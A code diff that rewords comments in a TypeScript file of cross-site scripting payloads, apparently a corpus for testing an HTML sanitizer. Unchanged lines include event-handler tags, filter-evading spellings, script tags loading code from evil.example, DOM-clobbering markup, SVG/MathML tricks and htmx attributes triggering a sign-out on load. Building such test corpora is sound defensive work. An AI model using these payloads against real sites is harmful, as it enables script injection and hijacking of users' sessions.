@@ -1,10 +1,10 @@
-/** What a payload runs if it can; nothing in the page is called so. */
+/** The call that payloads try to run; the page has no function of that name. */
 const RUN = "xss(1)";
 
-/** Where a payload wants the browser to ask. */
+/** The host that payloads try to make the browser request. */
 const ELSEWHERE = "https://evil.example";
 
-/** Elements that run something by themselves, and the event that does it. */
+/** Elements that run a handler by themselves, and the event that does it. */
 const events: readonly (readonly [tag: string, event: string])[] = [
   ["img src=x", "onerror"],
   ["img src=data:image/gif;base64,R0lGODlhAQABAAAAACw=", "onload"],
@@ -48,7 +48,7 @@ const events: readonly (readonly [tag: string, event: string])[] = [
   ["svg><set attributeName=x to=y", "onend"],
 ];
 
-/** Ways to write an element with a handler, some of which fooled one filter or another. */
+/** Ways to write an element with a handler, some of which have fooled filters. */
 const spellings: readonly ((tag: string, event: string) => string)[] = [
   (tag, event) => `<${tag} ${event}=${RUN}>`,
   (tag, event) => `"><${tag} ${event}="${RUN}">`,
@@ -56,7 +56,7 @@ const spellings: readonly ((tag: string, event: string) => string)[] = [
   (tag, event) => `<${tag.replaceAll(" ", "\n")}\n${event}\t=\f${RUN}\n>`,
 ];
 
-/** Markup that runs, fetches, or takes over without a handler of its own. */
+/** Markup that runs, fetches, or takes over without an event handler. */
 const elements = [
   `<script>${RUN}</script>`,
   `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
@@ -148,7 +148,7 @@ const elements = [
   `<select><option>`,
   `<noembed><img src=x onerror=${RUN}>`,
   `<noframes><img src=x onerror=${RUN}>`,
-  // Names that shadow what scripts of the page rely on.
+  // Names that shadow properties that the page's scripts use.
   `<a id=htmx><a id=htmx name=config href=x>`,
   `<form id=scrollingElement><input name=scrollTo>`,
   `<img name=getElementById><img name=currentScript>`,
@@ -156,7 +156,10 @@ const elements = [
   `<h2 id=message>`,
 ];
 
-/** SVG and MathML: elements of other namespaces, with links, handlers and parsing rules of their own. */
+/**
+ * SVG and MathML: elements of other namespaces, with links, handlers and parsing rules of their
+ * own.
+ */
 const foreign = [
   `<svg><script>${RUN}</script></svg>`,
   `<svg><script href=${ELSEWHERE}/x.js /></svg>`,
@@ -187,7 +190,7 @@ const foreign = [
   `<math><semantics><annotation encoding=application/x-tex></annotation><img src=x onerror=${RUN}>`,
 ];
 
-/** What reads htmx attributes and elements would obey. */
+/** Attributes and elements that htmx would obey. */
 const htmx = [
   ...["hx-get", "hx-post", "hx-put", "hx-delete", "data-hx-get", "hx-sse:connect"].map((name) =>
     `<div ${name}="/sign-out" hx-trigger="load">`
